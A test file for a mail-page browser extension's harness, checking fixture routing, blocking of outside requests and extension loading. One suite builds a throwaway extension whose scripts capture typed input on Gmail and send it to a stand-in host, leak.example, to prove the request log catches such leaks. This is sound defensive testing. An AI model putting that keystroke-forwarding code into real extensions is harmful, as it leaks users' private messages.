import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { ChromiumSession } from './harness/chromium';
import { URLS } from './harness/fixtures';
import { E2E_CHROME_EXTENSION_DIR } from './harness/paths';
import { sleep } from './harness/suite';

// Checks the harness itself: routing at the real hosts, the abort-everything-else rule, the
// request log, and that the built extension is loaded (its id, its pages).
describe('harness (Chromium)', () => {
  let session: ChromiumSession;
  beforeAll(async () => {
    session = await ChromiumSession.launch();
  });
  afterAll(async () => {
    await session?.close();
  });
  afterEach(async () => {
    await session.closePages();
  });

  it('serves fixtures at the real mail addresses and aborts everything else', async () => {
    const page = await session.openFixture(URLS.gmail, 'gmail-compose.html');
    expect(page.url()).toBe(URLS.gmail);
    expect(await page.locator('div.M9 [g_editable="true"]').count()).toBe(1);
    // The fixture's stylesheet and script are assets on the same host.
    expect(await page.evaluate(() => typeof (window as unknown as { fixture?: unknown }).fixture)).toBe('object');
    const mark = session.network.mark();
    const status = await page.evaluate(() =>
      fetch('https://example.com/leak').then(
        () => 'fetched',
        () => 'blocked',
      ),
    );
    expect(status).toBe('blocked');
    expect(session.network.unexpected(mark).map((r) => r.url)).toEqual(['https://example.com/leak']);
    // Everything recorded before that was a fixture.
    expect(session.network.unexpected(0).map((r) => r.url)).toEqual(['https://example.com/leak']);
  });

  it('serves each Outlook host', async () => {
    const mark = session.network.mark();
    for (const url of [URLS.outlookOffice, URLS.outlookLive, URLS.outlookOffice365, URLS.outlookCloud]) {
      const page = await session.openFixture(url, 'outlook-compose.html');
      expect(await page.locator('[id^="editorParent_"] [contenteditable="true"][role="textbox"]').count()).toBe(1);
      await page.close();
    }
    expect(session.network.unexpected(mark)).toEqual([]);
  });

  it('loads the built extension (id from its path; popup reachable)', async () => {
    const manifest = JSON.parse(readFileSync(path.join(E2E_CHROME_EXTENSION_DIR, 'manifest.json'), 'utf8'));
    expect(manifest.manifest_version).toBe(3);
    const worker = await session.serviceWorker(manifest.background ? 10_000 : 500);
    if (manifest.background) {
      expect(worker, 'the background service worker should be running').toBeDefined();
      expect(worker!.url()).toBe(`chrome-extension://${session.extensionId}/${manifest.background.service_worker}`);
    }
    const popup = await session.openPopup();
    expect(await popup.title()).toBe(manifest.action?.default_title ?? (await popup.title()));
    await expect.poll(() => popup.locator('body').textContent()).toContain('Connection First');
  });

  it('runs the content script on the mail hosts', async () => {
    const manifest = JSON.parse(readFileSync(path.join(E2E_CHROME_EXTENSION_DIR, 'manifest.json'), 'utf8'));
    const matches: string[] = (manifest.content_scripts ?? []).flatMap((c: { matches: string[] }) => c.matches);
    for (const host of [
      'mail.google.com',
      'outlook.office.com',
      'outlook.office365.com',
      'outlook.live.com',
      'outlook.cloud.microsoft',
    ]) {
      expect(matches, `content script match for ${host}`).toContain(`https://${host}/*`);
    }
  });
});

// The "no network requests" tests are only as good as the request log: prove it sees requests
// from a content script and from an extension's background service worker, with a throwaway
// extension that makes both.
describe('harness (Chromium): the request log sees extension traffic', () => {
  let dir: string;
  let session: ChromiumSession;
  beforeAll(async () => {
    dir = mkdtempSync(path.join(tmpdir(), 'cf-leaky-extension-'));
    writeFileSync(
      path.join(dir, 'manifest.json'),
      JSON.stringify({
        manifest_version: 3,
        name: 'leaky test extension',
        version: '1',
        background: { service_worker: 'worker.js' },
        host_permissions: ['https://mail.google.com/*', 'https://leak.example/*'],
        content_scripts: [{ matches: ['https://mail.google.com/*'], js: ['content.js'] }],
      }),
    );
    writeFileSync(
      path.join(dir, 'worker.js'),
      `chrome.runtime.onMessage.addListener((m, s, reply) => { fetch('https://leak.example/from-worker?' + m.text).catch(() => {}); reply('ok'); });`,
    );
    writeFileSync(
      path.join(dir, 'content.js'),
      `document.addEventListener('input', (e) => { const t = e.data; chrome.runtime.sendMessage({ text: t }); fetch('https://leak.example/from-content?' + t).catch(() => {}); });`,
    );
    session = await ChromiumSession.launch({ extensionDir: dir });
  });
  afterAll(async () => {
    await session?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('records content-script and service-worker requests while typing', async () => {
    expect(await session.serviceWorker(10_000)).toBeDefined();
    const page = await session.openFixture(URLS.gmail, 'gmail-compose.html');
    const mark = session.network.mark();
    await page.locator('#compose-1 [g_editable="true"]').click();
    await page.keyboard.type('x');
    await expect
      .poll(
        () =>
          session.network
            .unexpected(mark)
            .map((r) => `${r.from} ${r.url}`)
            .sort(),
        { timeout: 5000 },
      )
      .toEqual(['page https://leak.example/from-content?x', 'worker https://leak.example/from-worker?x']);
    await sleep(100);
  });
});
